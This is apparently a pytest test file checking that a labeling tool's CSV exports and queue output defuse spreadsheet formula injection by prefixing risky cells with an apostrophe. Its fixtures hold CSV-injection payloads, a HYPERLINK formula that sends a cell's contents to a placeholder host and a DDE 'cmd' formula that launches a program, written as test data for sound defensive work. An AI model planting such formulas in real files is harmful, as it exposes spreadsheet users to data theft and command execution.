"""Exports are safe to open in a spreadsheet (issue 31, point 3; OWASP "CSV injection"): a text
cell that Excel, LibreOffice or Google Sheets would read as a formula (=, +, -, @, tab, CR)
is written with a leading apostrophe, in every column a person or a file can fill, in every
CSV export and in `queue --csv`; numbers stay numbers."""
from __future__ import annotations

import csv
import io
import os
import socket
from pathlib import Path

import numpy as np
import pytest

from mersemi.service.project import DecisionRequest, Project
from mersemi.service.spreadsheet import FORMULA_START, safe_cell
from test_cli import run

CLASSES = ["=calm", "joy", "-anger"]
LINK = '=HYPERLINK("http://127.0.0.1:1/?"&A1,"click")'
CALC = "=cmd|' -C calc'!A0"
POOL = [LINK, "+1+1", "-2+3", "@SUM(1,1)", "plain", "u5", "u6"]


@pytest.fixture
def project(tmp_path) -> Path:
    """Classes and pool samples whose names are formulas, one round, decisions by "@ann" with
    formula notes, a relabel to a formula class."""
    root = tmp_path / "p"
    with Project.init(root, CLASSES) as p:
        C, n_gold = len(CLASSES), 6
        rows = [{"id": i, "name": f"g{i}", "split": "labeled", "gold_label": i % C, "true_label": None,
                 "text": None, "media": None} for i in range(n_gold)]
        rows += [{"id": n_gold + i, "name": n, "split": "unlabeled", "gold_label": None, "true_label": None,
                  "text": None, "media": None} for i, n in enumerate(POOL)]
        rows += [{"id": n_gold + len(POOL), "name": "+test", "split": "test", "gold_label": 0, "true_label": None,
                  "text": None, "media": None}]
        p.store.samples.insert(rows)
        probs = np.full((len(POOL), C), 0.1, np.float32)
        probs[np.arange(len(POOL)), np.arange(len(POOL)) % C] = 0.8
        rid = p.store.rounds.create(config={}, config_name="fixture", thresholds={}, auto_accept=False,
                                    pid=os.getpid(), host=socket.gethostname())
        p.store.rounds.complete(rid, predictions=[
            ("pool", np.arange(n_gold, n_gold + len(POOL)), probs),
            ("test", np.array([n_gold + len(POOL)]), probs[:1]),
            ("oof", np.arange(n_gold), np.eye(C, dtype=np.float32)[np.arange(n_gold) % C])],
            decisions=[], reviewer="auto", composition={"gold": n_gold, "total": n_gold}, metrics={}, checkpoint=None)
        p.decide([DecisionRequest(LINK, "accept", note=CALC), DecisionRequest("+1+1", "relabel", "-anger", note="+x"),
                  DecisionRequest("-2+3", "label", "=calm", note="@x")], reviewer="@ann")
    return root


def exported(capsys, root: Path, what: str, tmp_path: Path) -> list[dict]:
    out = tmp_path / f"{what}.csv"
    code, _, err = run(capsys, "export", root, "--what", what, "--out", out)
    assert code == 0, err
    return list(csv.DictReader(io.StringIO(out.read_text())))


# Every column of every export that a person, a file or the project's classes can fill.
COLUMNS = [("labels", "name"), ("labels", "label"),
           ("predictions", "name"), ("predictions", "predicted"),
           ("decisions", "name"), ("decisions", "label"), ("decisions", "reviewer"), ("decisions", "note")]


@pytest.mark.parametrize("what, column", COLUMNS)
def test_no_cell_of_a_column_runs_as_a_formula(what, column, project, tmp_path, capsys):
    rows = exported(capsys, project, what, tmp_path)
    cells = [r[column] for r in rows if r[column]]
    assert cells, f"the fixture leaves {what}.{column} empty: the test would prove nothing"
    assert not [c for c in cells if c.startswith(FORMULA_START)], cells
    assert any(c.startswith("'") and c[1:].startswith(FORMULA_START) for c in cells), cells


def test_the_formula_is_kept_as_text_behind_the_apostrophe(project, tmp_path, capsys):
    rows = exported(capsys, project, "decisions", tmp_path)
    assert {"'" + LINK, "'+1+1", "'-2+3"} <= {r["name"] for r in rows}
    assert "'" + CALC in {r["note"] for r in rows}
    labels = exported(capsys, project, "labels", tmp_path)
    assert {"'-anger", "'=calm"} <= {r["label"] for r in labels}
    assert "plain" not in {r["name"] for r in labels}   # undecided: no label, and no change to plain names


def test_numbers_stay_numbers(project, tmp_path, capsys):
    rows = exported(capsys, project, "predictions", tmp_path)
    assert all(float(r["confidence"]) > 0 for r in rows)
    assert "p_=calm" in rows[0]   # a header "p_..." is no formula


def test_the_queue_as_csv_is_safe_too(project, capsys):
    code, out, err = run(capsys, "queue", project, "--csv", "--limit", "50")
    assert code == 0, err
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and not [v for r in rows for v in (r["name"], r["predicted"]) if v.startswith(FORMULA_START)]
    assert "'+1+1" not in {r["name"] for r in rows}   # decided: out of the queue
    assert {"'@SUM(1,1)", "plain"} <= {r["name"] for r in rows}


@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("＝1", "'＝1"),
                                             ("a=1", "a=1"), ("", ""), (-1.5, -1.5), (None, None)])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
